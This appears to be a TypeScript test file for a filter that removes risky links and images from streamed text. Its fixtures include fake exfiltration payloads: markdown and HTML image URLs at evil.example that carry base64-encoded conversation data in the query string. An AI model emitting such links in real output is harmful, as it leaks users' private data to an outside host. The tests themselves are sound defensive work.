import { describe, expect, it } from 'vitest';
import { type Replacement, simulateStream, splitAt } from '../secrets/test-stream-harness.js';
import { LINKS_MAX_MATCH_CHARS, exfiltrationRisk, findLinks, stripRiskyLinks } from './index.js';

const opts = { allowHosts: ['cdn.example.com'] };

describe('stripRiskyLinks', () => {
  it('removes risky images and keeps the text of risky links', () => {
    const text =
      'Hi ![x](https://evil.example/p.png?q=c2VjcmV0IGNvbnZlcnNhdGlvbiBkYXRhIGhlcmU) ' +
      'and [the docs](https://evil.example/docs) and ![ok](https://cdn.example.com/ok.png).';
    expect(stripRiskyLinks(text, opts)).toEqual({
      text: 'Hi [image removed] and the docs and ![ok](https://cdn.example.com/ok.png).',
      stripped: 2,
    });
  });

  it('handles HTML, bare URLs, reference definitions and an image inside a link', () => {
    const text = '<img src="https://evil.example/a.png"> https://evil.example/x\n[![i](https://evil.example/i.png)](https://evil.example/l)\n![r][1]\n[1]: https://evil.example/r.png';
    const r = stripRiskyLinks(text, opts);
    expect(r.text).toBe('[image removed] [link removed]\n[image removed]\n![r][1]\n[link removed]');
    expect(r.stripped).toBe(5);
  });

  it('leaves text without risky links untouched', () => {
    const text = 'See ![a](/local.png) and [b](https://cdn.example.com/x).';
    expect(stripRiskyLinks(text, opts)).toEqual({ text, stripped: 0 });
  });
});

describe('links under streaming with a hold-back of LINKS_MAX_MATCH_CHARS', () => {
  const scan = (w: string): Replacement[] =>
    findLinks(w)
      .filter((l) => exfiltrationRisk(l.url, opts).risky)
      .map((l) => ({ start: l.start, end: l.end, replacement: '[removed]' }));
  const options = { holdBack: LINKS_MAX_MATCH_CHARS };

  it.each([
    ['image', '![x](https://evil.example/p.png?q=c2VjcmV0IGNvbnZlcnNhdGlvbiBkYXRhIGhlcmU)'],
    ['html', '<img src="https://evil.example/a.png">'],
    ['bare', 'https://evil.example/some/path?x=1'],
  ])('%s: removed at every chunk boundary', (_name, link) => {
    const before = 'Words. '.repeat(Math.ceil((LINKS_MAX_MATCH_CHARS + 50) / 7));
    const text = `${before}${link} tail ${'More. '.repeat(Math.ceil((LINKS_MAX_MATCH_CHARS + 50) / 6))}`;
    const expected = `${before}[removed] tail ${'More. '.repeat(Math.ceil((LINKS_MAX_MATCH_CHARS + 50) / 6))}`;
    const at = before.length;
    for (let i = at - 1; i <= at + link.length + 1; i++) {
      expect(simulateStream(splitAt(text, [i]), scan, options)).toBe(expected);
    }
    const from = at + options.holdBack - 3;
    const cuts = Array.from({ length: link.length + 6 }, (_, k) => from + k);
    expect(simulateStream(splitAt(text, cuts), scan, options)).toBe(expected);
  });
});
